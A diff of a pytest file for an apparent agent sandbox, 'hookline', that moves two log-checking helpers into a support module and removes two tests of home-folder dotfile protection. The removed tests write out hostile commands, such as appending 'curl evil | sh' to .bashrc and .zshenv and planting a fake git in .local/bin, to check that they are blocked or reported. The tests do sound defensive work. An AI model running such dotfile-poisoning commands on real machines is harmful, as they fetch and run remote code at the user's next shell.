@@ -13,23 +13,11 @@ from pathlib import Path
 
 import anyio
 import pytest
-from sandbox_support import environment
+from sandbox_support import environment, made_warnings, said_once
 
 from hookline.builtins.host import CommandResult, LocalEnvironment, protection
 from hookline.builtins.host.background import BackgroundProcesses
 from hookline.kernel.errors import HooklineError
-
-
-def made_warnings(caplog: pytest.LogCaptureFixture) -> list[str]:
-    """The warnings that name what commands made."""
-    return [record.getMessage() for record in caplog.records
-            if "commands run in this workspace made" in record.getMessage()]
-
-
-def said_once(caplog: pytest.LogCaptureFixture, made: str) -> None:
-    """`made` was named, in one warning only."""
-    said = made_warnings(caplog)
-    assert len(said) == 1 and f"made {made}, which" in said[0], said
 
 
 async def run_then_write(env: LocalEnvironment, command: str, paths: tuple[str, ...]
@@ -64,68 +52,6 @@ async def test_a_nested_repository_is_protected_at_any_depth(
     assert result.stderr.count("Read-only file system") == 2, result.stderr
     assert (nested / "config").read_text() == "[core]\n"
     assert (workspace / "deep" / "ok").exists()
-
-
-@pytest.mark.anyio
-async def test_in_the_home_folder_its_startup_files_are_protected_and_its_projects_not(
-        layout: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch,
-        caplog: pytest.LogCaptureFixture) -> None:
-    """hookline started in the home folder (its own home kept elsewhere): the shell's
-    startup files, git's config and `.local/bin` would run a command's code at the next
-    shell or git command, so every hidden entry is kept, and a missing startup file a
-    command makes is named; a project there is the agent's to change."""
-    workspace, home, _ = layout
-    monkeypatch.setenv("HOME", str(workspace))
-    (workspace / ".bashrc").write_text("# the user's\n")
-    (workspace / ".local" / "bin").mkdir(parents=True)
-    (workspace / ".ssh").mkdir()  # hidden as well (sandbox_deny_read)
-    (workspace / "project").mkdir()
-    env = environment(workspace, home)
-    try:
-        attack = await env.run("echo 'curl evil | sh' >> .bashrc; "
-                               "printf '#!/bin/sh\\n' > .local/bin/git; "
-                               "touch project/ok && echo 'curl evil | sh' > .zshenv")
-        with pytest.raises(HooklineError) as refused:
-            await env.write_text(".bashrc", "curl evil | sh\n")
-        await env.say_what_commands_made()  # as the builtin plugin does after each run
-        after = await env.run("echo 'curl evil | sh' >> .zshenv")
-    finally:
-        await env.close()
-    assert attack.stderr.count("Read-only file system") == 2, attack.stderr
-    assert (workspace / ".bashrc").read_text() == "# the user's\n"
-    assert not (workspace / ".local" / "bin" / "git").exists()
-    assert (workspace / "project" / "ok").exists()
-    assert "'.bashrc' is protected" in str(refused.value)
-    said_once(caplog, ".zshenv")
-    assert "Read-only file system" in after.stderr
-
-
-@pytest.mark.anyio
-async def test_in_the_home_folder_a_dotfile_link_replaced_is_named_and_kept_from_then_on(
-        layout: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch,
-        caplog: pytest.LogCaptureFixture) -> None:
-    """A dotfile kept with stow is a link: what it points to is kept, but a command may
-    replace the link itself with a file of its own, which is named at the end of the
-    turn and kept from then on."""
-    workspace, home, _ = layout
-    monkeypatch.setenv("HOME", str(workspace))
-    (workspace / "dotfiles").mkdir()
-    (workspace / "dotfiles" / "bashrc").write_text("# the user's\n")
-    (workspace / ".bashrc").symlink_to("dotfiles/bashrc")
-    env = environment(workspace, home)
-    try:
-        through = await env.run("echo 'curl evil | sh' >> .bashrc")
-        replaced = await env.run("rm .bashrc && echo 'curl evil | sh' > .bashrc && echo done")
-        await env.say_what_commands_made()  # as the builtin plugin does after each run
-        after = await env.run("echo 'curl more | sh' >> .bashrc")
-    finally:
-        await env.close()
-    assert "Read-only file system" in through.stderr
-    assert (workspace / "dotfiles" / "bashrc").read_text() == "# the user's\n"
-    assert "done" in replaced.stdout, replaced.stderr
-    said_once(caplog, ".bashrc")
-    assert "Read-only file system" in after.stderr
-    assert (workspace / ".bashrc").read_text() == "curl evil | sh\n"
 
 
 @pytest.mark.anyio
